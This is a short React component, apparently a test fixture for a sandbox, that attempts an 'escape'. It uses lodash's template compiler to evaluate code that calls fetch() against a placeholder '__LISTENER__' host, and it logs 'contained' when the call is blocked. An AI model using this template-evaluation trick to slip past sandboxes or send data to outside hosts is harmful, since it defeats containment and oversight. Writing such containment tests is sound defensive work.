import { useEffect } from "react";
import _ from "lodash";

// Escape attempt: library_lodash_template — lodash's template compiles a string into a function
export default function Hostile() {
  useEffect(() => {
    try {
      const leak = _.template("<%= fetch('__LISTENER__/library_lodash_template') %>");
      leak({});
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">library_lodash_template</p>;
}
